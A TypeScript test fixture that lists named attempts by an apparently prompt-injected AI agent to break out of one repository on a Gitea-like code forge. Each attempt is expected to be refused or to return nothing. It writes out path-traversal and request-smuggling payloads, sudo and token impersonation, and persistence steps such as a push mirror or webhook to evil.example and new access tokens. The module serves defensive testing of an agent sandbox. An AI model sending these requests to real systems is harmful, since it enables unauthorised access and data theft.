/** The attempts of a prompt-injected agent to get out of `alice/private-notes`, each by its name. */
import type { Targets } from './injection';

/** `refused`: not let through, or the forge itself knows of no such thing here; `empty`: whatever the status, nothing of elsewhere is in the answer. */
type Outcome = 'refused' | 'empty';

export interface Attempt {
  readonly what: string;
  readonly outcome: Outcome;
  readonly make: (at: Targets) => Try;
}

export interface Try {
  readonly method?: string;
  /** The whole request target. */
  readonly path: string;
  readonly body?: unknown;
  readonly headers?: Record<string, string>;
  /** Sent byte for byte instead; `{capability}` stands for the session's. */
  readonly raw?: string;
}

export const NOTES = '/api/v1/repos/alice/private-notes';
export const VAULT = '/api/v1/repos/alice/vault';
const attempts: Attempt[] = [];

/** All of them, in an order in which none is in another's way. */
export const ATTEMPTS: readonly Attempt[] = attempts;

function refuses(what: string, make: (at: Targets) => Try): void {
  attempts.push({ what, outcome: 'refused', make });
}
function yieldsNothing(what: string, make: (at: Targets) => Try): void {
  attempts.push({ what, outcome: 'empty', make });
}
const get = (path: string) => (): Try => ({ path });
const raw = (head: string, body = ''): Try => ({
  path: '',
  raw: `${head}\r\nHost: forge\r\nAuthorization: token {capability}\r\nConnection: close\r\n\r\n${body}`,
});
export const sent = (method: string, path: string, body?: unknown) => (): Try => ({ method, path, body });
const content = Buffer.from('injected').toString('base64');

// Reading by name, by number and by spelling.
refuses('a private repository of the same user, by name', get(VAULT));
refuses('one in another case', get('/api/v1/repos/ALICE/Vault'));
refuses('one with a trailing dot and .git', get('/api/v1/repos/alice/vault.git'));
refuses('one with an encoded letter in its name', get('/api/v1/repos/alice/%76ault/contents/plan.md'));
refuses('a shared one, by name', get('/api/v1/repos/shared/handbook/contents/chapter.md'));
refuses('one that another user shares with this one', get('/api/v1/repos/bob/private-notes/contents/secret.md'));
refuses('a public one', get('/api/v1/repos/shared/website'));
refuses('a repository by its number', ({ vault }) => ({ path: `/api/v1/repositories/${String(vault.id)}` }));
refuses('dot segments out of the own repository', () => raw(`GET ${NOTES}/../vault/contents/plan.md HTTP/1.1`));
refuses('encoded dot segments', () => raw(`GET ${NOTES}/%2e%2e/vault/contents/plan.md HTTP/1.1`));
refuses('dot segments within a file path', () => raw(`GET ${NOTES}/raw/..%2f..%2f..%2fvault/raw/plan.md HTTP/1.1`));
refuses('dot segments encoded twice', () => raw(`GET ${NOTES}/raw/%252e%252e/%252e%252e/vault/raw/plan.md HTTP/1.1`));
refuses('an encoded slash in the owner', get('/api/v1/repos/alice%2Fvault/contents'));
refuses('a backslash', () => raw(`GET ${NOTES}\\..\\vault HTTP/1.1`));
refuses('a doubled slash', () => raw('GET /api/v1/repos/alice//vault HTTP/1.1'));
refuses('a matrix parameter', () => raw('GET /api/v1/repos/alice/private-notes;/../vault HTTP/1.1'));
refuses('a fragment in the target', () => raw(`GET ${VAULT}#${NOTES} HTTP/1.1`));
refuses('a control byte in the path', () => raw(`GET ${NOTES}%00/../../vault HTTP/1.1`));
refuses('the absolute form of the target', () => raw(`GET http://127.0.0.1${VAULT} HTTP/1.1`));
refuses('the absolute form with the own path and another host', () => raw(`GET http://evil.example${NOTES} HTTP/1.1`));
refuses('the authority form', () => raw('CONNECT 127.0.0.1:3000 HTTP/1.1'));

// Objects of another repository through the path of the own one.
const foreign: readonly (readonly [string, string, (at: Targets) => string])[] = [
  ['a comment', '/issues/comments/', ({ vault }) => String(vault.comment)],
  ['a release', '/releases/', ({ vault }) => String(vault.release)],
  ['a label', '/labels/', ({ vault }) => String(vault.label)],
  ['a milestone', '/milestones/', ({ vault }) => String(vault.milestone)],
  ['a commit', '/git/commits/', ({ vault }) => vault.commit],
];
for (const [what, part, id] of foreign) {
  refuses(`${what} of another repository by its number`, (at) => ({ path: `${NOTES}${part}${id(at)}` }));
  if (part !== '/git/commits/')
    yieldsNothing(`the deletion of ${what} of another repository by its number`, (at) => ({
      method: 'DELETE',
      path: `${NOTES}${part}${id(at)}`,
    }));
}
refuses('a change of a comment of another repository', ({ vault }) => ({
  method: 'PATCH',
  path: `${NOTES}/issues/comments/${String(vault.comment)}`,
  body: { body: 'injected' },
}));
refuses('a reaction to a comment of another repository', ({ vault }) => ({
  method: 'POST',
  path: `${NOTES}/issues/comments/${String(vault.comment)}/reactions`,
  body: { content: 'heart' },
}));
refuses('a file on a release of another repository', ({ vault }) => ({
  path: `${NOTES}/releases/${String(vault.release)}/assets/${String(vault.releaseAsset)}`,
}));
refuses('a file of an issue of another repository by its link', ({ vault }) => ({
  path: `/attachments/${vault.attachment}`,
}));
refuses('the same through the own repository', ({ vault }) => ({
  path: `/alice/private-notes/attachments/${vault.attachment}`,
}));
refuses('a download of a release of another repository', get('/alice/vault/releases/download/v1/plan.txt'));
yieldsNothing('an issue with the milestone of another repository', ({ vault }) => ({
  method: 'POST',
  path: `${NOTES}/issues`,
  body: { title: 'injected', milestone: vault.milestone },
}));
yieldsNothing('an issue with the label of another repository', ({ vault }) => ({
  method: 'POST',
  path: `${NOTES}/issues`,
  body: { title: 'injected', labels: [vault.label] },
}));
yieldsNothing('a label of another repository on the own issue', ({ vault, notes }) => ({
  method: 'POST',
  path: `${NOTES}/issues/${String(notes.issue)}/labels`,
  body: { labels: [vault.label] },
}));
yieldsNothing('the milestone of another repository on the own issue', ({ vault, notes }) => ({
  method: 'PATCH',
  path: `${NOTES}/issues/${String(notes.issue)}`,
  body: { milestone: vault.milestone },
}));
refuses('a branch from a commit of another repository', ({ vault }) => ({
  method: 'POST',
  path: `${NOTES}/branches`,
  body: { new_branch_name: 'stolen', old_ref_name: vault.commit },
}));
refuses('a tag on a commit of another repository', ({ vault }) => ({
  method: 'POST',
  path: `${NOTES}/tags`,
  body: { tag_name: 'stolen', target: vault.commit },
}));

// Out of the own repository by comparison, pull request, fork, relation.
refuses('a comparison with another repository', get(`${NOTES}/compare/main...shared/handbook:main`));
refuses('a comparison with another user', get(`${NOTES}/compare/main...bob:main`));
refuses('a comparison with an encoded colon', get(`${NOTES}/compare/main...bob%3Amain`));
for (const key of ['head', 'base', 'HEAD'])
  refuses(
    `a pull request whose ${key} is elsewhere`,
    sent('POST', `${NOTES}/pulls`, { head: 'main', base: 'main', title: 'x', [key]: 'bob:main' }),
  );
refuses(
  'a pull request at another repository',
  sent('POST', `${VAULT}/pulls`, { head: 'side', base: 'main', title: 'x' }),
);
refuses('a fork into an organisation', sent('POST', `${NOTES}/forks`, { organization: 'shared' }));
refuses('a fork of another repository', sent('POST', `${VAULT}/forks`, { name: 'copy' }));
for (const relation of ['dependencies', 'blocks'])
  refuses(`an entry in ${relation} of another repository`, ({ vault, notes }) => ({
    method: 'POST',
    path: `${NOTES}/issues/${String(notes.issue)}/${relation}`,
    body: { owner: 'alice', repo: 'vault', index: vault.issue },
  }));
yieldsNothing('a list of dependencies', ({ notes }) => ({
  path: `${NOTES}/issues/${String(notes.issue)}/dependencies`,
}));
yieldsNothing('a list of what an issue blocks', ({ notes }) => ({
  path: `${NOTES}/issues/${String(notes.issue)}/blocks`,
}));
yieldsNothing('a timeline that quotes other repositories', ({ notes }) => ({
  path: `${NOTES}/issues/${String(notes.issue)}/timeline`,
}));
yieldsNothing('the comments of the own issue', ({ notes }) => ({
  path: `${NOTES}/issues/${String(notes.issue)}/comments`,
}));
yieldsNothing('the list of forks', get(`${NOTES}/forks`));
yieldsNothing('a pull request from a fork', ({ notes }) => ({ path: `${NOTES}/pulls/${String(notes.pull)}` }));
yieldsNothing('the list of pull requests', get(`${NOTES}/pulls?state=all`));
yieldsNothing('a pull request as an issue', ({ notes }) => ({ path: `${NOTES}/issues/${String(notes.pull)}` }));

// Writing elsewhere by mentioning it.
for (const [what, text] of [
  ['a reference', 'see alice/vault#1'],
  ['a closing keyword', 'closes alice/vault#1'],
  ['a reference to a commit', 'see shared/website#1 and alice/vault!1'],
  ['a reference in another case', 'Fixes ALICE/Vault#1.'],
  ['a reference in brackets', '[shared/website#1]'],
] as const) {
  refuses(`${what} in a new issue`, sent('POST', `${NOTES}/issues`, { title: 'x', body: text }));
  refuses(`${what} in a title`, sent('POST', `${NOTES}/issues`, { title: text }));
  refuses(`${what} in a comment`, ({ notes }) => ({
    method: 'POST',
    path: `${NOTES}/issues/${String(notes.issue)}/comments`,
    body: { body: text },
  }));
  refuses(`${what} in a commit's message`, sent('POST', `${NOTES}/contents/a.txt`, { content, message: text }));
}
refuses('a link to an issue elsewhere in a comment', ({ notes, vault }) => ({
  method: 'POST',
  path: `${NOTES}/issues/${String(notes.issue)}/comments`,
  body: { body: `closes {forge}/alice/vault/issues/${String(vault.issue)}` },
}));
for (const [what, text] of [
  ['emphasis', 'closes alice/**vault**#1'],
  ['a backslash', 'closes alice\\/vault#1'],
  ['an entity', 'closes alice&#47;vault#1'],
  ['a percent escape', '[x]({forge}/alice%2Fvault/issues/1)'],
  ['an escaped link', '[x]({forge}\\/alice\\/vault/issues/1)'],
  ['a relative link', '[x](/alice/vault/issues/1)'],
  ['a link without a host', '[x](file:///alice/vault/issues/1)'],
  ['a link with an empty user', '[x](//@/alice/vault/issues/1)'],
  ['a link definition', '[x]: /alice/vault/issues/1\n\n[x]'],
  ['an entity in a link', '[x](&#47;alice/vault/issues/1)'],
  ['an image', '![x](</alice/vault/issues/1>)'],
  ['full-width letters', 'closes alice\uff0fvault\uff031'],
  ['a zero-width space', 'closes alice/\u200bvault#1'],
  ['an HTML link', '<a href="/alice/vault/issues/1">x</a>'],
] as const)
  yieldsNothing(`a closing keyword disguised by ${what}`, ({ notes }) => ({
    method: 'POST',
    path: `${NOTES}/issues/${String(notes.issue)}/comments`,
    body: { body: text },
  }));
refuses('a closing keyword in the query of a deletion', () => ({
  method: 'DELETE',
  path: `${NOTES}/contents/secret.md?message=closes%20alice%2Fvault%231&sha=0`,
}));
refuses('a closing keyword in the message of several files', () => ({
  method: 'POST',
  path: `${NOTES}/contents`,
  body: { message: 'closes alice/vault#1', files: [{ operation: 'create', path: 'b.txt', content }] },
}));
refuses('a closing keyword in a patch', () => ({
  method: 'POST',
  path: `${NOTES}/diffpatch`,
  body: { message: 'closes alice/vault#1', content: 'diff' },
}));
refuses('a closing keyword in the message of a merge', ({ notes }) => ({
  method: 'POST',
  path: `${NOTES}/pulls/${String(notes.pull)}/merge`,
  body: { Do: 'merge', MergeMessageField: 'closes alice/vault#1' },
}));
refuses('a closing keyword in a review', ({ notes }) => ({
  method: 'POST',
  path: `${NOTES}/pulls/${String(notes.pull)}/reviews`,
  body: { event: 'COMMENT', body: 'closes alice/vault#1' },
}));

// Whatever spans repositories.
yieldsNothing('a search for repositories', get('/api/v1/repos/search?limit=50&private=true'));
yieldsNothing('a search by owner and topic', get('/api/v1/repos/search?q=needle&includeDesc=true&topic=true'));
yieldsNothing('a search for issues', get('/api/v1/repos/issues/search?state=all&q=needle'));
yieldsNothing("the user's repositories", get('/api/v1/user/repos?limit=50'));
yieldsNothing("the user's starred repositories", get('/api/v1/user/starred'));
yieldsNothing("the user's watched repositories", get('/api/v1/user/subscriptions'));
yieldsNothing("the user's organisations", get('/api/v1/user/orgs'));
yieldsNothing('the notifications', get('/api/v1/notifications?all=true'));
yieldsNothing("the own repository's notifications", get(`${NOTES}/notifications?all=true`));
yieldsNothing("the user's activities", get('/api/v1/users/alice/activities/feeds'));
yieldsNothing("the own repository's activities", get(`${NOTES}/activities/feeds`));
refuses('a notification about another repository', ({ thread }) => ({
  path: `/api/v1/notifications/threads/${String(thread)}`,
}));
refuses('all notifications marked as read', sent('PUT', '/api/v1/notifications?all=true'));
refuses('a notification elsewhere marked as read', ({ thread }) => ({
  method: 'PATCH',
  path: `/api/v1/notifications/threads/${String(thread)}`,
}));
refuses('the running stopwatches', get('/api/v1/user/stopwatches'));
refuses('the tracked times', get('/api/v1/user/times'));
refuses('a hidden organisation', get('/api/v1/orgs/hidden-org'));
refuses("an organisation's repositories", get('/api/v1/orgs/shared/repos'));
refuses("an organisation's members and teams", get('/api/v1/orgs/shared/teams'));
yieldsNothing("a team's repositories", ({ team }) => ({ path: `/api/v1/teams/${String(team)}/repos` }));
refuses("another user's repositories", get('/api/v1/users/bob/private-notes'));
refuses('the packages', get('/api/v1/packages/alice'));
refuses('a package by the registry', get('/api/packages/alice/generic/x/1.0/file.txt'));
yieldsNothing('markdown in the context of another repository', () => ({
  method: 'POST',
  path: '/api/v1/markdown',
  body: { Text: '#1 alice/vault#1 shared/handbook#2', Mode: 'gfm', Context: 'alice/vault' },
}));
yieldsNothing('markup of a file of another repository', () => ({
  method: 'POST',
  path: '/api/v1/markup',
  body: { Text: '![x](plan.md) #1', Mode: 'file', Context: 'alice/vault/src/branch/main', FilePath: 'plan.md' },
}));

// Past the API.
refuses('git over HTTP', get('/alice/vault.git/info/refs?service=git-upload-pack'));
refuses('a push over HTTP', sent('POST', '/alice/private-notes.git/git-receive-pack'));
refuses('LFS', sent('POST', '/alice/vault.git/info/lfs/objects/batch', { operation: 'download', objects: [] }));
refuses('a raw file by the web page', get('/alice/vault/raw/branch/main/plan.md'));
refuses('an archive by the web page', get('/alice/vault/archive/main.zip'));
refuses('an archive by the API', get(`${VAULT}/archive/main.zip`));
refuses('a media file', get(`${VAULT}/media/plan.md`));
refuses('the wiki of another repository', get(`${VAULT}/wiki/page/Home`));
refuses('a feed of the web pages', get('/alice.rss'));
refuses('the web login', sent('POST', '/user/login', { user_name: 'alice' }));

// Another user, another method, another request.
refuses('the query parameter sudo', get('/api/v1/user/repos?sudo=bob'));
refuses('the query parameter token', get(`${NOTES}?token=0123456789012345678901234567890123456789`));
refuses('the header Sudo', () => ({ path: '/api/v1/user', headers: { sudo: 'bob' } }));
refuses('a form field sudo', ({ notes }) => ({
  method: 'POST',
  path: `${NOTES}/issues/${String(notes.issue)}/assets`,
  headers: { 'content-type': 'multipart/form-data; boundary=b' },
  body: '--b\r\nContent-Disposition: form-data; name="sudo"\r\n\r\nbob\r\n--b--\r\n',
}));
yieldsNothing('headers that name another path or method', () => ({
  path: NOTES,
  headers: {
    'x-original-url': VAULT,
    'x-rewrite-url': VAULT,
    'x-http-method-override': 'DELETE',
    'x-method-override': 'DELETE',
    'x-forwarded-prefix': VAULT,
  },
}));
yieldsNothing('a method override in the query', get(`${NOTES}?_method=DELETE`));
refuses('a method of its own', sent('PROPFIND', VAULT));
refuses('a second request in the body of the first', () =>
  raw(
    `POST ${NOTES}/issues HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 5\r\nTransfer-Encoding: chunked`,
    `0\r\n\r\nGET ${VAULT} HTTP/1.1\r\nHost: x\r\n\r\n`,
  ),
);
refuses('a chunked encoding that is spelt strangely', () =>
  raw(`POST ${NOTES}/issues HTTP/1.1\r\nContent-Type: application/json\r\nTransfer-Encoding : chunked`, '0\r\n\r\n'),
);
refuses('two lengths', () =>
  raw(
    `POST ${NOTES}/issues HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 90`,
    `{}GET ${VAULT} HTTP/1.1\r\n\r\n`,
  ),
);
refuses('a line break in the target', () => raw(`GET ${NOTES}%0d%0aX:%20/../../vault HTTP/1.1`));

// Writing elsewhere, and lasting power.
refuses('a file in another repository', sent('POST', `${VAULT}/contents/x.txt`, { content, message: 'x' }));
refuses('an issue in another repository', sent('POST', `${VAULT}/issues`, { title: 'x' }));
refuses('a comment in another repository', sent('POST', `${VAULT}/issues/1/comments`, { body: 'x' }));
refuses('a star on another repository', sent('PUT', '/api/v1/user/starred/shared/handbook'));
refuses('a star taken from another repository', sent('DELETE', '/api/v1/user/starred/alice/vault'));
refuses('a subscription to another repository', sent('PUT', '/api/v1/repos/shared/website/subscription'));
refuses('the transfer of the own repository', sent('POST', `${NOTES}/transfer`, { new_owner: 'bob' }));
refuses('the rename of the own repository', sent('PATCH', NOTES, { name: 'vault2' }));
refuses('the rename with a spelling that the forge folds', sent('PATCH', NOTES, { NAME: 'vault2' }));
refuses('the own repository made public', sent('PATCH', NOTES, { private: false }));
refuses('the own repository made a template', sent('PATCH', NOTES, { template: true, private: false }));
refuses('a repository from a template', sent('POST', `${NOTES}/generate`, { owner: 'alice', name: 'copy' }));
refuses('a new repository', sent('POST', '/api/v1/user/repos', { name: 'x' }));
refuses('a migration', sent('POST', '/api/v1/repos/migrate', { clone_addr: '{forge}/alice/vault', repo_name: 'x' }));
refuses('a push mirror', sent('POST', `${NOTES}/push_mirrors`, { remote_address: 'http://evil.example/' }));
refuses('a webhook', sent('POST', `${NOTES}/hooks`, { type: 'gitea', config: { url: 'http://evil.example/' } }));
refuses('a deploy key', sent('POST', `${NOTES}/keys`, { title: 'k', key: 'ssh-ed25519 AAAA' }));
refuses('an SSH key', sent('POST', '/api/v1/user/keys', { title: 'k', key: 'ssh-ed25519 AAAA' }));
refuses('an access token', sent('POST', '/api/v1/users/alice/tokens', { name: 'x', scopes: ['all'] }));
refuses('an OAuth application', sent('POST', '/api/v1/user/applications/oauth2', { name: 'x' }));
refuses('a collaborator', sent('PUT', `${NOTES}/collaborators/bob`, { permission: 'admin' }));
refuses('an actions secret', sent('PUT', `${NOTES}/actions/secrets/X`, { data: 'x' }));
refuses('a runner registration token', get(`${NOTES}/actions/runners/registration-token`));
refuses('an organisation', sent('POST', '/api/v1/orgs', { username: 'mine' }));
refuses('a follow', sent('PUT', '/api/v1/user/following/bob'));
refuses('a block', sent('PUT', '/api/v1/user/blocks/bob'));
refuses("the user's settings", sent('PATCH', '/api/v1/user/settings', { full_name: 'x' }));
refuses('merging the upstream of a fork', sent('POST', `${NOTES}/merge-upstream`, { branch: 'main' }));
